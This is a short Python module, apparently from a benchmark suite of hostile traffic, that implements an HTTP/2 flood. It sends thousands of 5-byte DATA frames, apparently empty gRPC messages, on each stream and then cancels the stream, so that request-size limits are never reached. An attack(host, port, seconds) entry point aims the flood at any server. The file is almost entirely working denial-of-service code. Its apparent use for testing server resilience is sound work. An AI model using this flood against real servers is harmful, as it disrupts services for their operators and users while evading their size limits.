"""Legal DATA frames of 5 bytes at full speed: each holds one empty message of a call that does not end.

A stream takes 60,000 of them and is then reset, so that no limit on a request's size is met.
"""

from __future__ import annotations

import ssl
from collections.abc import Iterator

from benchmarks.hostile import wire

CONFIG: str | None = None

_FRAMES_AT_ONCE = 4_000
_PIECES_PER_STREAM = 15


def sending() -> Iterator[bytes]:
    block = wire.block_of()
    for stream_id in wire.stream_ids():
        yield wire.frame(wire.HEADERS, wire.END_HEADERS, stream_id, block)
        piece = wire.frame(wire.DATA, 0, stream_id, bytes(5)) * _FRAMES_AT_ONCE
        for _ in range(_PIECES_PER_STREAM):
            yield piece
        yield wire.frame(wire.RST_STREAM, 0, stream_id, b"\0\0\0\x08")


async def attack(host: str, port: int, seconds: float, tls: ssl.SSLContext | None = None) -> int:
    return await wire.flood(host, port, seconds, tls, sending)
